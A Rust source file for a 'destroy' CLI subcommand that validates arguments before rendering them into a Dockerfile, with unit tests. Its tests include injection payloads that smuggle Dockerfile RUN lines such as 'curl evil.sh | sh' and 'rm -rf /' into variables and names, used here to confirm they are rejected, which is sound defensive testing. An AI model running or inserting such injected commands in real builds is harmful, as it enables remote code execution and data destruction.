// ABOUTME: The destroy subcommand
// ABOUTME: Loads config, wires the Docker builder and cluster client, runs one remote destroy

use anyhow::{Context, Result};
use clap::Args;
use colored::*;
use std::collections::BTreeMap;
use std::process;
use std::sync::Arc;
use std::time::Duration;
use teardown_config::Config;
use teardown_destroy::{
    DestroyOptions, DockerBuilder, ExecutionLog, HttpMetadataClientProvider, OutputMode,
    RemoteDestroyer,
};
use tracing::debug;

#[derive(Args, Debug)]
pub struct DestroyArgs {
    /// Name of the development environment
    #[arg(long, value_parser = single_line)]
    name: Option<String>,

    /// Namespace to destroy in (default: the configured namespace)
    #[arg(long, value_parser = single_line)]
    namespace: Option<String>,

    /// Path to the environment manifest
    #[arg(short = 'f', long = "file", value_parser = single_line)]
    file: Option<String>,

    /// Also destroy persistent volumes
    #[arg(long)]
    volumes: bool,

    /// Remove the environment even if the destroy fails
    #[arg(long)]
    force_destroy: bool,

    /// Base image for the destroy (default: the cluster's pipeline runner)
    #[arg(long, value_parser = single_line)]
    image: Option<String>,

    /// Build-time variable, repeatable
    #[arg(long = "var", value_name = "KEY=VALUE", value_parser = parse_var)]
    vars: Vec<(String, String)>,

    /// CLI release to run inside the build (default: TEARDOWN_REMOTE_CLI_VERSION)
    #[arg(long, value_parser = single_line)]
    cli_version: Option<String>,

    /// Forward every build output line, not only the destroy command's
    #[arg(short, long)]
    verbose: bool,
}

// Values end up inside the rendered Dockerfile, one instruction per line
fn single_line(raw: &str) -> Result<String, String> {
    if raw.chars().any(char::is_control) {
        return Err("value must not contain control characters".to_string());
    }
    Ok(raw.to_string())
}

fn parse_var(raw: &str) -> Result<(String, String), String> {
    let (key, value) = raw
        .split_once('=')
        .ok_or_else(|| format!("expected KEY=VALUE, got '{}'", raw))?;

    let mut chars = key.chars();
    let valid_key = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
    if !valid_key {
        return Err(format!(
            "invalid variable name '{}': use letters, digits and underscores",
            key
        ));
    }
    if value.contains(['\n', '\r']) {
        return Err(format!("value of {} must be a single line", key));
    }

    Ok((key.to_string(), value.to_string()))
}

impl DestroyArgs {
    fn options(&self) -> DestroyOptions {
        DestroyOptions {
            name: self.name.clone(),
            namespace: self.namespace.clone(),
            manifest_path: self.file.clone(),
            destroy_volumes: self.volumes,
            force_destroy: self.force_destroy,
        }
    }

    pub async fn execute(self) -> Result<()> {
        let config = Config::from_env().context("failed to load configuration")?;

        let mut session = config.session();
        if let Some(namespace) = self.namespace.as_deref().filter(|ns| !ns.is_empty()) {
            session.namespace = namespace.to_string();
        }

        let mut runtime = config.runtime_env();
        if let Some(version) = self.cli_version.clone() {
            runtime.cli_version = Some(version);
        }
        let output_mode = if self.verbose {
            OutputMode::Plain
        } else {
            OutputMode::Destroy
        };

        let log = ExecutionLog::new();
        let builder = DockerBuilder::new()?.with_log(log.clone());
        let clients =
            HttpMetadataClientProvider::new(Duration::from_secs(config.http_timeout_secs));
        let build_env: BTreeMap<String, String> = self.vars.iter().cloned().collect();
        debug!("Destroy with {} build variables", build_env.len());

        let destroyer = RemoteDestroyer::new(
            Arc::new(builder),
            Arc::new(clients),
            session,
            runtime,
        )
        .with_destroy_image(self.image.clone().unwrap_or_default())
        .with_build_env(build_env)
        .with_output_mode(output_mode)
        .with_log(log);

        match destroyer.destroy(&self.options()).await {
            Ok(()) => {
                println!("{} Development environment destroyed", "✓".green().bold());
                Ok(())
            }
            Err(e) => {
                eprintln!("{} {}", "Error:".red().bold(), e);
                eprintln!("  stage: {}", e.stage);
                process::exit(1);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::Parser;
    use rstest::rstest;

    #[derive(Parser)]
    struct TestCli {
        #[command(flatten)]
        args: DestroyArgs,
    }

    #[rstest]
    #[case("KEY=value", Some(("KEY", "value")))]
    #[case("KEY=a=b", Some(("KEY", "a=b")))]
    #[case("KEY=", Some(("KEY", "")))]
    #[case("_PRIVATE1=x", Some(("_PRIVATE1", "x")))]
    #[case("=value", None)]
    #[case("novalue", None)]
    #[case(" =value", None)]
    #[case("KEY NAME=value", None)]
    #[case("1KEY=value", None)]
    #[case("KEY=a\nRUN curl evil.sh | sh", None)]
    #[case("KEY=a\rb", None)]
    fn test_parse_var(#[case] raw: &str, #[case] expected: Option<(&str, &str)>) {
        let parsed = parse_var(raw).ok();
        let expected = expected.map(|(k, v)| (k.to_string(), v.to_string()));
        assert_eq!(parsed, expected);
    }

    #[rstest]
    #[case("myenv", true)]
    #[case("my env/with spaces", true)]
    #[case("myenv\nRUN rm -rf /", false)]
    #[case("tab\there", false)]
    fn test_single_line(#[case] raw: &str, #[case] accepted: bool) {
        assert_eq!(single_line(raw).is_ok(), accepted);
    }

    #[test]
    fn test_multiline_name_is_rejected_by_clap() {
        let result = TestCli::try_parse_from(["teardown", "--name", "env\nRUN id"]);

        assert!(result.is_err());
    }

    #[test]
    fn test_cli_version_and_verbose_flags() {
        let cli = TestCli::parse_from(["teardown", "--cli-version", "2.25.0", "-v"]);

        assert_eq!(cli.args.cli_version.as_deref(), Some("2.25.0"));
        assert!(cli.args.verbose);
    }

    #[test]
    fn test_args_map_to_options() {
        let cli = TestCli::parse_from([
            "teardown",
            "--name",
            "myenv",
            "-f",
            "okteto.yml",
            "--volumes",
            "--var",
            "A=1",
            "--var",
            "B=2",
        ]);

        let options = cli.args.options();
        assert_eq!(options.name.as_deref(), Some("myenv"));
        assert_eq!(options.manifest_path.as_deref(), Some("okteto.yml"));
        assert_eq!(options.namespace, None);
        assert!(options.destroy_volumes);
        assert!(!options.force_destroy);
        assert_eq!(cli.args.vars.len(), 2);
    }
}
